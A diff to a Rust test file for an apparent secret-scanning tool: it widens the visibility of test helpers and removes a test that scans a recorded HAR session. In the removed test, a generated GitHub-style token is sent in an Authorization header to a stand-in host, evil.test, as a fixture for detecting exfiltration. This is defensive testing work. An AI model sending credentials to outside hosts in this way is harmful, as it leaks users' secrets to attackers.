@@ -10,7 +10,7 @@ use serde_json::Value;
 use crate::{Desk, Said, outgate};
 
 /// A token that its issuer would know by its checksum, and nobody issued.
-fn token(seed: u64) -> String {
+pub(crate) fn token(seed: u64) -> String {
     String::from_utf8(sample("ghp_{b62:30}{crc62}", seed)).expect("letters")
 }
 
@@ -45,7 +45,7 @@ fn scan_input(desk: &Desk, words: &[&str], input: &[u8]) -> Said {
 
 /// No part of a token that tells it from others is in what was said.
 #[track_caller]
-fn assert_silent_about(said: &Said, token: &str) {
+pub(crate) fn assert_silent_about(said: &Said, token: &str) {
     let (_, body) = token.split_at(4);
     for part in body.as_bytes().windows(6) {
         let part = std::str::from_utf8(part).expect("letters");
@@ -58,7 +58,7 @@ fn assert_silent_about(said: &Said, token: &str) {
     }
 }
 
-fn document(said: &Said) -> Value {
+pub(crate) fn document(said: &Said) -> Value {
     serde_json::from_str(&said.stdout).expect("one JSON document")
 }
 
@@ -272,49 +272,6 @@ fn a_finding_in_a_document_has_its_path() {
     let said = desk.call(&["scan", "--sarif", "a.py"]);
     let place = &document(&said)["runs"][0]["results"][0]["locations"][0];
     assert_eq!(place["logicalLocations"], Value::Array(Vec::new()));
-}
-
-#[test]
-fn recorded_requests_are_judged_by_their_hosts() {
-    let token = token(7);
-    let request = |url: &str| {
-        format!(
-            r#"{{"request":{{"method":"POST","url":"{url}","headers":[{{"name":"Authorization","value":"Bearer {token}"}}],"postData":{{"mimeType":"text/plain","text":"a {token}"}}}}}}"#
-        )
-    };
-    let text = format!(
-        r#"{{"log":{{"entries":[{},{}]}}}}"#,
-        request("https://api.github.com/x"),
-        request("https://evil.test/y")
-    );
-    let desk = Desk::new().also("session.har", &text);
-    let said = desk.call(&["scan", "--json", "session.har"]);
-    assert_eq!(said.status, 1, "{}", said.stderr);
-    assert_silent_about(&said, &token);
-    let json = document(&said);
-    let findings = json["findings"].as_array().expect("a list");
-    let places: Vec<(&str, &str)> = findings
-        .iter()
-        .filter_map(|finding| Some((finding["part"].as_str()?, finding["place"].as_str()?)))
-        .collect();
-    let (home, away) = (
-        "entry 1, POST to api.github.com",
-        "entry 2, POST to evil.test",
-    );
-    let expected = [
-        (home, "content"),
-        (away, "field `authorization`"),
-        (away, "content"),
-    ];
-    assert_eq!(places, expected, "{json:#}");
-    desk.write("broken.har", "{}");
-    let said = desk.call(&["scan", "broken.har"]);
-    assert_eq!(said.status, 2);
-    assert!(
-        said.stderr.contains("it has no `log.entries`"),
-        "{}",
-        said.stderr
-    );
 }
 
 #[test]
